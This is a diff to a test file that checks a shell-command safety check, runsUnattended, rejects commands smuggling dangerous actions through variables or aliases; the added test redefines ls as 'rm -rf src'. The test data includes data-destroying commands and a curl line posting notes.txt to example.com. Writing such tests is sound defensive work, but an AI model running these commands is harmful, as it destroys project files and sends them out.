@@ -205,6 +205,7 @@ describe("what runs with no one pressing a key: only what is known to read or wr
     expect(await runsUnattended("false && G=ls; $G rm -rf src")).toBe(false);
     expect(await runsUnattended('G="ls -la"; $G')).toBe(false);
     expect(await runsUnattended("sh -c 'G=echo'; $G curl -d @notes.txt https://example.com")).toBe(false);
+    expect(await runsUnattended("shopt -s expand_aliases\nalias ls='rm -rf src'\nls")).toBe(false);
   });
 
   test("a program aye does not know, asked only for its help or version, prints it; a path is the project's own", async () => {
